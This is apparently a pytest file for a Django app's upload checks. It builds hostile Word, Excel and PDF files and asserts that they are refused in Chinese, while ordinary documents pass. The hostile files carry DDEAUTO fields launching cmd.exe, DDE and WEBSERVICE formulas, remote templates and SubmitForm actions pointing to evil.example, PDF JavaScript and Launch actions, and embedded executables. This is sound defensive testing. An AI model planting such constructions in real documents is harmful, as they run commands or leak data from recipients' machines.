"""Evidence files carry no active content: a hostile corpus built here, file by file (Office
packages with external relationships, attached templates, embedded objects, controls, DDE
fields and formulas, external links; PDFs with JavaScript, OpenAction, Launch, embedded files
and their look-alikes hidden by name escapes and object streams) is refused in Chinese through
the task page and the API, storing nothing; ordinary documents with links and formulas pass."""

import io
import re
import zipfile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from core.uploads.errors import FileRefused
from core.uploads.office import check_package
from core.uploads.pdf import check_pdf_active
from tasks.models import Attachment, ProgressUpdate
from tests.imports.parsing import plans

pytestmark = pytest.mark.django_db

HAN = re.compile(r"[\u4e00-\u9fff]")
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


# --- building the corpus -------------------------------------------------------------------


def docx() -> bytes:
    return plans.docx_bytes(["2026年工作进展报告", "已完成城市医疗集团组建。"])


def xlsx() -> bytes:
    return plans.xlsx_bytes([["序号", "指标", "数值"], ["1", "签约率", "75"]], merge_title=False)


def repack(data: bytes, replace=None, extra=()) -> bytes:
    """The package with some parts replaced (name → bytes, or a function of the old bytes) and
    extra (name, bytes) parts added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    replace = replace or {}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            content = source.read(name)
            if name in replace:
                change = replace[name]
                content = change(content) if callable(change) else change
            archive.writestr(name, content)
        for name, content in extra:
            archive.writestr(name, content)
    return out.getvalue()


def with_relationship(rel_type: str, target: str, external=True, part="word/_rels/document.xml.rels"):
    mode = ' TargetMode="External"' if external else ""
    relationship = f'<Relationship Id="rIdX9" Type="{R}/{rel_type}" Target="{target}"{mode}/>'.encode()
    return {part: lambda old: old.replace(b"</Relationships>", relationship + b"</Relationships>")}


def with_body(xml: str):
    return {"word/document.xml": lambda old: old.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)}


def with_cell_formula(formula: str):
    cell = f'<c r="D2"><f>{formula}</f><v>0</v></c>'.encode()
    return {
        "xl/worksheets/sheet1.xml": lambda old: re.sub(
            rb"(<row [^>]*r=\"2\"[^>]*>)", lambda m: m.group(1) + cell, old, count=1
        )
    }


def simple_field(instr: str) -> str:
    instr = instr.replace('"', "&quot;")
    return f'<w:p><w:fldSimple w:instr="{instr}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'


def split_field(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


SETTINGS_RELS = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS}">'
    f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
).encode()
EXTERNAL_LINK = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<externalBook r:id="rId1" xmlns:r="' + R + '"/></externalLink>'
).encode()

OFFICE_CORPUS = {
    # Word: relationships
    "docx_attached_template": (
        "报告.docx",
        lambda: repack(docx(), extra=[("word/_rels/settings.xml.rels", SETTINGS_RELS)]),
    ),
    "docx_linked_picture_unc": (
        "报告.docx",
        lambda: repack(docx(), with_relationship("image", "\\\\evil\\share\\x.png")),
    ),
    "docx_frame": ("报告.docx", lambda: repack(docx(), with_relationship("frame", "http://evil.example/"))),
    "docx_subdocument": ("报告.docx", lambda: repack(docx(), with_relationship("subDocument", "file:///C:/a.docx"))),
    "docx_hyperlink_to_unc": (
        "报告.docx",
        lambda: repack(docx(), with_relationship("hyperlink", "file://///evil/share")),
    ),
    "docx_hyperlink_javascript": (
        "报告.docx",
        lambda: repack(docx(), with_relationship("hyperlink", "javascript:alert(1)")),
    ),
    # Word: embedded objects and controls
    "docx_ole_object": (
        "报告.docx",
        lambda: repack(
            docx(),
            with_relationship("oleObject", "embeddings/oleObject1.bin", external=False),
            extra=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)],
        ),
    ),
    "docx_embedded_package": ("报告.docx", lambda: repack(docx(), extra=[("word/embeddings/Sheet1.xlsx", xlsx())])),
    "docx_embedded_exe": ("报告.docx", lambda: repack(docx(), extra=[("word/embeddings/setup.exe", b"MZ\x90\0" * 64)])),
    "docx_activex": ("报告.docx", lambda: repack(docx(), extra=[("word/activeX/activeX1.xml", b"<ax:ocx/>")])),
    "docx_macro_content_type": (
        "报告.docx",
        lambda: repack(
            docx(),
            {
                "[Content_Types].xml": lambda old: old.replace(
                    b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
                )
            },
        ),
    ),
    # Word: fields that run or fetch
    "docx_ddeauto": (
        "报告.docx",
        lambda: repack(docx(), with_body(simple_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))),
    ),
    "docx_dde_split_across_runs": (
        "报告.docx",
        lambda: repack(docx(), with_body(split_field(" dd", "E c:\\\\cmd.exe ", '"/c calc"'))),
    ),
    "docx_includetext": (
        "报告.docx",
        lambda: repack(docx(), with_body(simple_field('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx"'))),
    ),
    "docx_includepicture_unc": (
        "报告.docx",
        lambda: repack(docx(), with_body(split_field('INCLUDEPICTURE "\\\\\\\\evil\\\\s\\\\a.png"'))),
    ),
    # Excel
    "xlsx_dde_formula": ("表.xlsx", lambda: repack(xlsx(), with_cell_formula("cmd|'/c calc'!A1"))),
    "xlsx_rtd_formula": ("表.xlsx", lambda: repack(xlsx(), with_cell_formula('RTD("evil.server",,"x")'))),
    "xlsx_webservice_formula": (
        "表.xlsx",
        lambda: repack(xlsx(), with_cell_formula('_xlfn.WEBSERVICE("http://evil.example/")')),
    ),
    "xlsx_external_link": (
        "表.xlsx",
        lambda: repack(
            xlsx(),
            with_relationship("externalLink", "externalLinks/externalLink1.xml", False, "xl/_rels/workbook.xml.rels"),
            extra=[("xl/externalLinks/externalLink1.xml", EXTERNAL_LINK)],
        ),
    ),
    "xlsx_macrosheet": ("表.xlsx", lambda: repack(xlsx(), extra=[("xl/macrosheets/sheet2.xml", b"<xm:macrosheet/>")])),
    "xlsx_data_connection": ("表.xlsx", lambda: repack(xlsx(), extra=[("xl/connections.xml", b"<connections/>")])),
    "xlsx_dde_defined_name": (
        "表.xlsx",
        lambda: repack(
            xlsx(),
            {
                "xl/workbook.xml": lambda old: old.replace(
                    b"</sheets>",
                    b"</sheets><definedNames>"
                    b"<definedName name=\"x\">msexcel|'\\..\\x.exe'!''</definedName></definedNames>",
                )
            },
        ),
    ),
}


def pdf(*objects: bytes, trailer=b"") -> bytes:
    """A PDF of the catalogue (object 1), one page (object 2, its Pages 3) and `objects` from 4 on."""
    base = [
        b"<< /Type /Catalog /Pages 3 0 R %s >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] %s >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
    ]
    catalog_extra, page_extra = b"", b""
    rest = []
    for item in objects:
        if item.startswith(b"CATALOG:"):
            catalog_extra += item[8:]
        elif item.startswith(b"PAGE:"):
            page_extra += item[5:]
        else:
            rest.append(item)
    return plans.pdf_from_objects([base[0] % catalog_extra, base[1] % page_extra, base[2], *rest], trailer)


def pikepdf_bytes(build, object_streams=True) -> bytes:
    """A PDF made by qpdf, compressed and with its objects in object streams."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    build(document)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.preserve
    document.save(out, object_stream_mode=mode, compress_streams=True)
    return out.getvalue()


def _js_in_object_stream(document):
    document.Root.OpenAction = document.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=pikepdf.String("app.alert(1)"))
    )


def _embedded_file_in_object_stream(document):
    document.attachments["payload.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\0" * 64)


LINK = b"<< /Type /Annot /Subtype /Link /Rect [10 10 100 30] /A %s >>"
PDF_CORPUS = {
    "pdf_javascript_openaction": lambda: pdf(b"CATALOG:/OpenAction 4 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "pdf_javascript_name_tree_hex_escaped": lambda: pdf(
        b"CATALOG:/Names << /J#61vaScript 4 0 R >>", b"<< /Names [(a) 5 0 R] >>", b"<< /S /J#61v#61Script /J#53 (x) >>"
    ),
    "pdf_launch_link": lambda: pdf(b"PAGE:/Annots [4 0 R]", LINK % b"<< /S /Launch /F (cmd.exe) >>"),
    "pdf_uri_javascript": lambda: pdf(b"PAGE:/Annots [4 0 R]", LINK % b"<< /S /URI /URI (javascript:alert(1)) >>"),
    "pdf_uri_local_file": lambda: pdf(
        b"PAGE:/Annots [4 0 R]", LINK % b"<< /S /URI /URI (file:///C:/Windows/calc.exe) >>"
    ),
    "pdf_gotor_remote_file": lambda: pdf(
        b"PAGE:/Annots [4 0 R]", LINK % b"<< /S /GoToR /F (\\\\\\\\evil\\\\s\\\\a.pdf) /D [0 /Fit] >>"
    ),
    "pdf_submit_form": lambda: pdf(
        b"PAGE:/Annots [4 0 R]", LINK % b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"
    ),
    "pdf_import_data": lambda: pdf(b"CATALOG:/OpenAction << /S /ImportData /F (data.fdf) >>"),
    "pdf_openaction_uri": lambda: pdf(b"CATALOG:/OpenAction << /S /URI /URI (https://evil.example/beacon) >>"),
    "pdf_page_additional_action": lambda: pdf(b"PAGE:/AA << /O << /S /URI /URI (https://evil.example/) >> >>"),
    "pdf_embedded_files": lambda: pdf(
        b"CATALOG:/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
    ),
    "pdf_file_attachment_annotation": lambda: pdf(
        b"PAGE:/Annots [4 0 R]", b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>"
    ),
    "pdf_rich_media": lambda: pdf(b"PAGE:/Annots [4 0 R]", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
    "pdf_xfa_form": lambda: pdf(
        b"CATALOG:/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< /Length 0 >>\nstream\n\nendstream"
    ),
    "pdf_javascript_in_object_stream": lambda: pikepdf_bytes(_js_in_object_stream),
    "pdf_embedded_file_in_object_stream": lambda: pikepdf_bytes(_embedded_file_in_object_stream),
    "pdf_object_stream_with_an_unusual_filter": lambda: pdf(
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length 8 >>\nstream\n30203020>\nendstream"
    ),
    # Not in the cross-reference table, and a file qpdf gives up on: a lenient reader's repair finds it.
    "pdf_javascript_outside_the_xref": lambda: (
        b"%PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\ntrailer<<>>\n%%EOF\n"
    ),
}

CORPUS = {**OFFICE_CORPUS, **{case: ("扫描件.pdf", build) for case, build in PDF_CORPUS.items()}}


def benign_docx_with_links() -> bytes:
    hyperlink = (
        '<w:p><w:hyperlink r:id="rIdX9" xmlns:r="'
        + R
        + '"><w:r><w:t>政策原文</w:t></w:r></w:hyperlink></w:p>'
        + simple_field('HYPERLINK "https://www.nhc.gov.cn/"')
        + split_field('INCLUDEPICTURE "https://mmbiz.qpic.cn/a.png" \\* MERGEFORMATINET')
        + simple_field("PAGE")
    )
    changes = {**with_relationship("hyperlink", "https://www.nhc.gov.cn/"), **with_body(hyperlink)}
    return repack(docx(), changes)


def benign_docx_with_mailto() -> bytes:
    return repack(docx(), with_relationship("hyperlink", "mailto:office@example.cn"))


def benign_xlsx_with_formulas() -> bytes:
    data = repack(xlsx(), with_cell_formula('IF(C2&gt;70,"达标|良好","未达标")&amp;SUM(C2:C3)'))
    return repack(data, {"xl/worksheets/sheet1.xml": lambda old: old.replace(b"<v>0</v>", b"<v>1</v>")})


def benign_pdf_with_link() -> bytes:
    return pdf(
        b"CATALOG:/OpenAction [2 0 R /Fit] /PageMode /UseOutlines",
        b"PAGE:/Annots [4 0 R 5 0 R]",
        LINK % b"<< /S /URI /URI (https://www.nhc.gov.cn/) >>",
        b"<< /Type /Annot /Subtype /Link /Rect [10 40 100 60] /Dest [2 0 R /XYZ 0 842 0] >>",
    )


BENIGN = {
    "docx_with_hyperlinks_and_a_pasted_web_picture": ("报告.docx", benign_docx_with_links),
    "docx_with_mailto": ("报告.docx", benign_docx_with_mailto),
    "xlsx_with_ordinary_formulas": ("表.xlsx", benign_xlsx_with_formulas),
    "pdf_with_a_web_link_and_an_open_at_page_one": ("扫描件.pdf", benign_pdf_with_link),
    "pdf_with_a_compressed_text_layer": ("扫描件.pdf", lambda: pikepdf_bytes(lambda document: None)),
    "pdf_the_tests_minimal_one": ("扫描件.pdf", lambda: b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"),
}


# --- the checks alone ----------------------------------------------------------------------


def check(name: str, data: bytes) -> None:
    if name.endswith(".pdf"):
        check_pdf_active(data)
    elif name.endswith(".docx"):
        check_package(data, "docx", "Word 文档", ".docx")
    else:
        check_package(data, "xlsx", "Excel 表格", ".xlsx")


@pytest.mark.parametrize("case", sorted(CORPUS))
def test_each_hostile_file_is_refused_as_unsafe_in_chinese(case):
    name, build = CORPUS[case]
    with pytest.raises(FileRefused) as refused:
        check(name, build())
    assert refused.value.code == "unsafe"
    assert len(HAN.findall(refused.value.message)) >= 10, refused.value.message


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_ordinary_documents_with_links_and_formulas_pass(case):
    name, build = BENIGN[case]
    check(name, build())


def test_a_pdf_locked_with_a_password_is_refused_when_it_hides_object_streams():
    # given a PDF that opens only with a password, its objects in (encrypted) object streams
    locked = io.BytesIO()
    document = pikepdf.new()
    document.add_blank_page()
    document.save(
        locked,
        encryption=pikepdf.Encryption(user="pw", owner="owner"),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )
    # then it cannot be checked, and is refused as encrypted, in Chinese
    with pytest.raises(FileRefused) as refused:
        check_pdf_active(locked.getvalue())
    assert refused.value.code == "encrypted" and "密码" in refused.value.message


# --- through the real pages ------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def stored_files(media) -> list:
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


def report(client, task, *files):
    return client.post(
        reverse("tasks:task_report", args=[task.pk]),
        {"version": task.version, "status": "in_progress", "percent": 20, "note": "附佐证材料", "files": list(files)},
    )


@pytest.mark.parametrize("case", sorted(CORPUS))
def test_the_task_page_refuses_a_hostile_evidence_file_and_stores_nothing(client, staff_a, task, media, case):
    name, build = CORPUS[case]
    # given staff of the lead agency on the task page
    client.force_login(staff_a)
    # when they report with the hostile file attached
    response = report(client, task, SimpleUploadedFile(name, build()))
    # then the report is refused in Chinese, naming the file, and nothing is stored
    assert response.status_code == 400
    errors = re.findall(r'class="error">([^<]+)<', response.content.decode())
    assert any(name in error and "不予接受" in error for error in errors), errors
    task.refresh_from_db()
    assert task.percent == 0 and not ProgressUpdate.objects.exists() and not Attachment.objects.exists()
    assert stored_files(media) == []


@pytest.mark.parametrize("case", sorted(CORPUS))
def test_the_api_refuses_a_hostile_evidence_file_and_stores_nothing(staff_a, task, media, case):
    name, build = CORPUS[case]
    api = APIClient()
    api.force_authenticate(staff_a)
    response = api.post(
        "/api/v1/progress-updates/",
        {"task": task.pk, "note": "上传材料", "files": [SimpleUploadedFile(name, build())]},
        format="multipart",
    )
    assert response.status_code == 400, response.content
    [message] = response.json()["errors"]["files"]
    assert name in message and "不予接受" in message
    assert not ProgressUpdate.objects.exists() and not Attachment.objects.exists()
    assert stored_files(media) == []


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_the_task_page_keeps_ordinary_evidence_with_links_and_formulas(client, staff_a, task, media, case):
    name, build = BENIGN[case]
    data = build()
    client.force_login(staff_a)
    response = report(client, task, SimpleUploadedFile(name, data))
    assert response.status_code == 302, re.findall(r'class="error">([^<]+)<', response.content.decode())
    [attachment] = Attachment.objects.all()
    assert attachment.original_name == name
    assert [p.read_bytes() for p in stored_files(media)] == [data]
